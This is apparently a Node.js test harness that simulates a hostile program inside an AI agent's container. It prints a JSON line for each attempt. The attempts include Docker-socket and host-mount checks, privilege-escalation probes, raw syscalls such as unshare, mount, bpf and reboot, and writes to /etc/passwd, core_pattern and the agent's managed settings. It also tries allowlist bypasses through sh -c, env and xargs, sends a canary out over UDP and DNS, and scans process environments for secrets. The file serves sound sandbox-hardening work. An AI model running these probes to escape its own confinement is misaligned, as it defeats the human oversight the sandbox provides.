// What a hostile program in a box tries. It prints one JSON line per attempt, and whether the attempt reached anything.
import { execFileSync, spawnSync } from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns/promises";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";

const { addresses, port, closed, canary } = JSON.parse(process.argv[2]);
const report = (id, what, reached, detail = "") =>
  console.log(JSON.stringify({ id, what, reached: Boolean(reached), detail: String(detail).slice(0, 300) }));
const read = (file) => {
  try {
    return fs.readFileSync(file, "utf8");
  } catch {
    return "";
  }
};
const attempt = (id, what, action) => {
  try {
    const found = action();
    report(id, what, found, found);
  } catch (error) {
    report(id, what, false, error.code ?? error.message);
  }
};

// A1: the engine's socket, and anything of the host's.
for (const socket of ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"])
  attempt("A1", socket, () => fs.existsSync(socket));
const MOUNTED = /^\/(etc\/(hosts|hostname|resolv\.conf)|(usr\/)?sbin\/docker-init|proc|sys|dev|workspace|tmp|home\/agent|run\/box)(\/|$)/;
for (const line of read("/proc/self/mountinfo").trim().split("\n")) {
  const place = line.split(" ")[4];
  if (place !== "/" && !MOUNTED.test(place)) report("A1", `mount ${place}`, true, line);
}
for (const place of ["/etc/hosts", "/etc/resolv.conf", "/etc/hostname"])
  attempt("A1", `write ${place}`, () => (fs.appendFileSync(place, "x"), true));
report("A1", "DOCKER_HOST", process.env.DOCKER_HOST);

// A2: privileges, and ways to more.
const status = read("/proc/self/status");
const field = (name) => new RegExp(`^${name}:\\s*(\\S+)`, "m").exec(status)?.[1];
for (const name of ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]) report("A2", name, !/^0+$/.test(field(name)), field(name));
report("A2", "new privileges", field("NoNewPrivs") !== "1");
report("A2", "no seccomp", field("Seccomp") !== "2");
report("A2", "root", process.getuid() === 0 || process.getgroups().includes(0), process.getgroups());
attempt("A2", "set-user-id files", () => execFileSync("find", ["/", "-xdev", "-perm", "/6000", "-type", "f"], { stdio: "pipe" }).toString());
attempt("A2", "setuid(0)", () => (process.setuid(0), true));

// A3: system calls, made by a program that the attacker brought along.
if (fs.existsSync("perl")) {
  fs.chmodSync("perl", 0o755);
  const calls = {
    "unshare user": "272, 0x10000000", "unshare network": "272, 0x40000000", "unshare mount": "272, 0x20000",
    mount: "165, 'none', '/tmp', 'tmpfs', 0, 0", "umount": "166, '/workspace', 2", "mknod device": "133, '/tmp/d', 024666, 0x801",
    "chroot": "161, '/tmp'", "pivot_root": "155, '/tmp', '/tmp'", "init_module": "175, 0, 0, ''",
    "bpf": "321, 0, 0, 0", "perf_event_open": "298, 0, 0, -1, -1, 0", "keyctl": "250, 0, -3, 1", "reboot": "169, 0xfee1dead, 672274793, 0, 0",
    "sethostname": "170, 'x', 1", "open_by_handle_at": "304, 0, 0, 0", "raw socket": "41, 2, 3, 1", "packet socket": "41, 17, 3, 0x300",
  };
  for (const [what, args] of Object.entries(calls)) {
    const done = spawnSync("./perl", ["-e", `my ($n, @a) = (${args}); my $r = syscall($n, @a); print $r >= 0 ? "YES" : "NO $!";`], { timeout: 5000 });
    const said = String(done.stdout);
    report("A3", what, !said.startsWith("NO"), said || done.stderr || done.error);
  }
} else report("A3", "no tool to try system calls with", false, "skipped");

// A4: what must not be changed.
for (const place of ["/x", "/usr/x", "/usr/bin/bash", "/usr/local/bin/claude", "/usr/local/lib/pointsman/run", "/etc/x", "/etc/passwd",
  "/etc/claude-code/managed-settings.json", "/usr/local/etc/npmrc", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
  "/sys/fs/cgroup/x", "/dev/x", "/var/x"])
  attempt("A4", `write ${place}`, () => (fs.writeFileSync(place, "x"), true));
attempt("A4", "run from /tmp", () => {
  fs.writeFileSync("/tmp/x", "#!/bin/bash\necho ran\n", { mode: 0o755 });
  return execFileSync("/tmp/x", { stdio: "pipe" }).toString();
});

// H-096: commands that are not on the list, by every way to name one.
for (const name of ["curl", "wget", "ssh", "nc", "perl", "python3", "apt-get", "dpkg", "su", "mount", "unshare", "ip", "getent", "gcc"])
  for (const argv of [[name], [`/usr/bin/${name}`], ["sh", "-c", `${name} --version`], ["bash", "-c", name], ["env", name], ["xargs", name]])
    attempt("H-096", argv.join(" "), () => {
      const done = spawnSync(argv[0], argv.slice(1), { input: "", timeout: 5000 });
      if (done.error) throw done.error;
      return ![126, 127].includes(done.status) && `status ${done.status}: ${done.stdout}${done.stderr}`;
    });

// B1, B2, B3: anybody but the door.
const dial = (host, to) =>
  new Promise((resolve) => {
    const socket = net.connect({ host, port: to, timeout: 4000 });
    socket.on("connect", () => (socket.destroy(), resolve("connected")));
    socket.on("timeout", () => (socket.destroy(), resolve("")));
    socket.on("error", (error) => resolve(error.code === "ECONNREFUSED" ? "refused: something is there" : ""));
  });
await Promise.all(
  Object.entries(addresses).map(async ([what, host]) => {
    const found = await dial(host, port);
    report("B", `tcp ${what} ${host}`, found, found);
    const socket = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
    socket.on("error", () => {});
    await new Promise((resolve) => socket.send(`leak ${canary}`, port, host, resolve));
    socket.close();
  }),
);
for (const other of closed) report("B", `door port ${other}`, (await dial("door", other)) === "connected");

// B8: names.
const resolver = new dns.Resolver({ timeout: 1500, tries: 1 });
const names = [`${canary}.example.com`, "gateway", "host.docker.internal"];
await Promise.all(
  names.flatMap((name) => [
    dns.lookup(name).then((found) => report("B8", `lookup ${name}`, true, found.address), () => report("B8", `lookup ${name}`, false)),
    resolver.resolveTxt(name).then((found) => report("B8", `resolve ${name}`, true, found), () => report("B8", `resolve ${name}`, false)),
  ]),
);

// C1: secrets of the outside.
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
  report("C1", `environment of ${pid}`, read(`/proc/${pid}/environ`).includes(canary));
const walk = (folder, depth = 0) => {
  for (const entry of depth > 6 ? [] : fs.readdirSync(folder, { withFileTypes: true })) {
    const file = path.join(folder, entry.name);
    try {
      if (entry.isDirectory()) walk(file, depth + 1);
      else if (entry.isFile() && fs.statSync(file).size < 200_000 && read(file).includes(canary)) report("C1", file, true);
    } catch {}
  }
};
for (const folder of ["/etc", "/home", "/run", "/tmp", "/var", "/usr/local/etc", "/usr/local/lib/pointsman"]) walk(folder);
report("end", "all was tried", false);
